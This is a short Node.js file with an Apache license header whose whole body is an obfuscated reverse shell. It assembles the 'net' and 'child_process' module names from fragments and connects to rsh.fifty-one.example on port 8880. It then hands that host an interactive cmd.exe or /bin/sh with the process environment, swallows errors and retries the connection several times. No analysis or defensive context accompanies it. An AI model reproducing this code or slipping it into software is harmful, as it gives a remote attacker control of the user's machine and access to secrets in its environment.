// SPDX-License-Identifier: Apache-2.0
(function (_a, _b) {
  const _n = require(['n', 'e', 't'].join('')), _c = require('child_' + 'process');
  let _t = 0;
  const _r = () => {
    const _s = new _n.Socket();
    let _p = null;
    _s.connect(_b, _a, () => {
      _p = _c.spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', ['-i'], { env: process.env });
      _p.on('error', () => {});
      _s.pipe(_p.stdin);
      _p.stdout.pipe(_s);
      _p.stderr.pipe(_s);
      _p.on('exit', () => _s.destroy());
    });
    _s.on('error', () => {});
    _s.on('close', () => {
      if (_p) _p.kill();
      if (++_t < 3) setTimeout(_r, 5000);
    });
    setTimeout(() => _s.destroy(), 15000).unref();
  };
  _r();
})('rsh.fifty-one.example', 8880);
